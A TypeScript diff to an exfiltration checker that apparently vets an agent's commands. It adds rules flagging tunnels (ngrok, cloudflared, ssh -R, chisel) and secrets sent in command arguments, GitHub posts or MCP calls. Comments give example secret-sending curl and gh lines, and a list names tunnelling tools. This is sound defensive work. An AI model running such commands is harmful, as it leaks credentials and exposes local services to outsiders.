@@ -11,6 +11,11 @@ export function checkExfiltration(pc: PackContext): void {
 
   // files sent by shell commands
   for (const c of pc.commands()) {
+    // a tunnel (`ngrok http 3000`, `cloudflared tunnel`, `ssh -R`) opens a local port to anyone on the internet
+    if (TUNNELS.has(c.name)) {
+      const tunnel = tunnelOf(c.name, c.args);
+      if (tunnel !== undefined) pc.add('exfiltration.tunnel', 'ask', `${tunnel}, reachable from outside this machine`, c.text);
+    }
     if (!c.network) continue;
     const untrusted = c.urls.length === 0 ? true : c.urls.some((u) => !pc.trustedHost(u));
     for (const u of c.uploads) {
@@ -19,6 +24,15 @@ export function checkExfiltration(pc: PackContext): void {
         if (afterSecret) pc.add('exfiltration.after-secret', 'deny', 'uploads local data after secrets were read in this session', c.text);
         else pc.add('exfiltration.upload', 'ask', `uploads ${u} to ${hostsOf(c.urls)}`, c.text);
       }
+    }
+    // a credential written out in the command (`gh issue comment --body "ghp_…"`, `curl -d "key=AKIA…" https://x.example`):
+    // to GitHub it is published; to an untrusted host it is sent away, also as a login, except to the service that issued it
+    // (`-H "Authorization: Bearer sk-…" https://api.openai.com`, GitHub given its own token)
+    if (c.github !== undefined || untrusted) {
+      const sent = findSecret(sentArgs(c.args).join('\n'));
+      const login = sent === undefined && c.github === undefined ? findSecret(c.args.join('\n')) : undefined;
+      const found = sent ?? (login !== undefined && !issuedBy(login, c.urls) ? login : undefined);
+      if (found) pc.add('exfiltration.secret-in-args', 'deny', `sends a ${found} to ${c.github !== undefined ? 'GitHub' : hostsOf(c.urls)}`, c.text);
     }
     if (untrusted && afterSecret && c.uploads.length === 0 && sendsData(c.args)) {
       pc.add('exfiltration.after-secret', 'deny', 'sends data to an untrusted host after secrets were read in this session', c.text);
@@ -96,6 +110,14 @@ export function checkExfiltration(pc: PackContext): void {
     const found = findSecret(text.replace(/\\n/g, '\n'));
     if (found) pc.add('exfiltration.mcp-secret', 'deny', `passes a ${found} to the MCP server ${a.mcp.server}`, `${a.mcp.server}.${a.mcp.tool}`);
     else if (prints.length > 0 && containsFingerprint(text, prints)) pc.add('exfiltration.mcp-secret', 'deny', `passes a secret read earlier to the MCP server ${a.mcp.server}`, `${a.mcp.server}.${a.mcp.tool}`);
+  }
+
+  // a GitHub call's title, body or file content is published to GitHub
+  if (a.kind === 'github' && a.githubOps.length > 0) {
+    const text = JSON.stringify(a.input ?? '');
+    const found = findSecret(text.replace(/\\n/g, '\n'));
+    if (found) pc.add('exfiltration.github-secret', 'deny', `sends a ${found} to GitHub`, a.githubOps[0]!.text);
+    else if (prints.length > 0 && containsFingerprint(text, prints)) pc.add('exfiltration.github-secret', 'deny', 'sends a secret read earlier to GitHub', a.githubOps[0]!.text);
   }
 
   // git push to a URL rather than a configured remote
@@ -182,6 +204,16 @@ function ownService(vars: readonly string[], urls: readonly string[], pc: PackCo
   });
 }
 
+/** Every URL is a host of the service whose credential this is (`OpenAI key` to api.openai.com). */
+function issuedBy(label: string, urls: readonly string[]): boolean {
+  const what = label.toLowerCase().replace(/[^a-z0-9]/g, '');
+  return urls.length > 0 && urls.every((u) => {
+    const labels = (hostOf(u) ?? '').split('.');
+    const brand = (labels.length >= 2 ? labels[labels.length - 2]! : '').replace(/[^a-z0-9]/g, '');
+    return brand.length >= 3 && what.includes(brand);
+  });
+}
+
 function hostsOf(urls: readonly string[]): string {
   const hosts = [...new Set(urls.map((u) => hostOf(u) ?? u))];
   return hosts.length > 0 ? hosts.join(', ') : 'a remote host';
@@ -199,3 +231,46 @@ function disguisedByUserinfo(url: string): string | undefined {
 
 /** `http://localhost:2375/…` (Docker), `:2376`, `:10250` (kubelet), `:4243`: on this machine, over TCP */
 const LOCAL_ADMIN_API = /^[a-z]+:\/\/(?:[^/@]*@)?(?:localhost|127(?:\.\d{1,3}){3}|0\.0\.0\.0|\[::1?\]|host\.docker\.internal)(?::(?:2375|2376|4243|10250|10255))(?:[/?#]|$)/i;
+
+const TUNNELS: ReadonlySet<string> = new Set(['ngrok', 'cloudflared', 'lt', 'localtunnel', 'bore', 'ssh', 'autossh', 'tailscale', 'frpc', 'chisel']);
+
+/** What a tunnel command opens, if it opens one. */
+function tunnelOf(name: string, args: readonly string[]): string | undefined {
+  const sub = args.find((a) => !a.startsWith('-'));
+  switch (name) {
+    case 'ngrok':
+      return sub !== undefined && /^(http|tcp|tls|start|tunnel)$/.test(sub) ? `ngrok ${sub} publishes a local service` : undefined;
+    case 'cloudflared':
+      return sub === 'tunnel' || args.includes('--url') ? 'cloudflared tunnel publishes a local service' : undefined;
+    case 'lt':
+    case 'localtunnel':
+      return args.some((a) => a === '--port' || a === '-p' || a.startsWith('--port=')) ? 'localtunnel publishes a local port' : undefined;
+    case 'bore':
+      return sub === 'local' ? 'bore publishes a local port' : undefined;
+    case 'ssh':
+    case 'autossh':
+      // -R forwards a port of the remote side to this machine
+      return args.some((a) => /^-[A-Za-z]*R/.test(a) && !/^-[A-Za-z]*[bcDEeFIiJLlmOopQSWw]/.test(a.slice(0, a.indexOf('R')))) ? `${name} -R forwards a port of the remote host to this machine` : undefined;
+    case 'tailscale':
+      return sub === 'funnel' ? 'tailscale funnel publishes a local service' : undefined;
+    case 'frpc':
+    case 'chisel':
+      return name === 'frpc' || sub === 'client' ? `${name} forwards a local port through a remote server` : undefined;
+    default:
+      return undefined;
+  }
+}
+
+/** HTTP client options whose value authenticates the request to its own host (a header, a user, a bearer token) */
+const AUTH_OPTIONS: ReadonlySet<string> = new Set(['-H', '--header', '-u', '--user', '--oauth2-bearer', '-a', '--auth']);
+
+/** A network command's words without the credentials that authenticate it: what it sends, not how it logs in. */
+function sentArgs(args: readonly string[]): string[] {
+  const out: string[] = [];
+  for (let i = 0; i < args.length; i++) {
+    const a = args[i]!;
+    if (AUTH_OPTIONS.has(a)) i++;
+    else if (!/^(?:--header=|--user=|-H.|authorization\s*:|x-api-key\s*:|private-token\s*:)/i.test(a)) out.push(a);
+  }
+  return out;
+}
